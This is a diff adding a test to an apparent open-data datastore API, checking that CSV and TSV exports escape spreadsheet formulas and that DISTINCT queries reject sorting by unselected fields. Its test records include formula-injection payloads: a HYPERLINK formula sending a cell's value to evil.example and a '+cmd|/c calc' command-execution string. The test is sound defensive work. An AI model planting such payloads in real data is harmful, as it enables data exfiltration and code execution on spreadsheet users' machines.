@@ -164,6 +164,29 @@ test(`${K} datastore_search_sql: a table anywhere in the statement is judged, ho
   assert.equal(cte.status, 200, JSON.stringify(cte.json));
 });
 
+test(`${K} records_format csv/tsv: a text cell is never a spreadsheet formula; numbers stay numbers; distinct sorts only by what it selects`, async () => {
+  const res = await api(env, 'resource_create', { package_id: 'open', name: 'formula table', url: 'https://example.go.th/f', format: 'CSV' }, { token });
+  const id = res.json.result.id;
+  const c = await api(env, 'datastore_create', { resource_id: id, fields: [{ id: 'name', type: 'text' }, { id: 'n', type: 'int' }, { id: 'x', type: 'numeric' }], records: [
+    { name: '=HYPERLINK("http://evil.example/?"&A1,"click")', n: -5, x: '-1.5' }, { name: '+cmd|/c calc', n: 1, x: 2 }, { name: '@SUM(1)', n: 2, x: 3 }, { name: '-2+3', n: 3, x: 4 }, { name: '\t=1', n: 4, x: 5 },
+  ] }, { token, lang: 'en' });
+  assert.equal(c.status, 200, JSON.stringify(c.json));
+  const csv = await search(env, { resource_id: id, fields: ['name', 'n', 'x'], records_format: 'csv' });
+  assert.equal(csv.status, 200, JSON.stringify(csv.json));
+  assert.equal(csv.json.result.records, `"'=HYPERLINK(""http://evil.example/?""&A1,""click"")",-5,-1.5\n'+cmd|/c calc,1,2\n'@SUM(1),2,3\n'-2+3,3,4\n'\t=1,4,5\n`);
+  const tsv = await search(env, { resource_id: id, fields: ['name', 'n'], records_format: 'tsv', limit: 2 });
+  assert.equal(tsv.json.result.records, `"'=HYPERLINK(""http://evil.example/?""&A1,""click"")"\t-5\n'+cmd|/c calc\t1\n`);
+  // objects and lists answer the value as stored
+  assert.equal((await search(env, { resource_id: id, fields: ['name'], limit: 1 })).json.result.records[0].name, '=HYPERLINK("http://evil.example/?"&A1,"click")');
+  // SELECT DISTINCT … ORDER BY a field not selected was a 500 (PostgreSQL refuses the statement)
+  const d = await search(env, { resource_id: open, fields: 'province', distinct: true, sort: 'amount desc' });
+  assert.equal(d.status, 409, JSON.stringify(d.json));
+  assert.ok(d.json.error.sort, JSON.stringify(d.json));
+  const ok = await search(env, { resource_id: open, fields: ['province', 'year'], distinct: true, sort: 'year desc, province' });
+  assert.equal(ok.status, 200, JSON.stringify(ok.json));
+  assert.equal(ok.json.result.records[0].year, 2564);
+});
+
 test(`${K} visibility: a table is read with the file right; personal data needs read_sensitive of the owner`, async () => {
   assert.equal((await search(env, { resource_id: shared })).status, 404, 'anonymous');
   assert.equal((await search(env, { resource_id: shared }, outsider)).status, 404, 'another organisation');
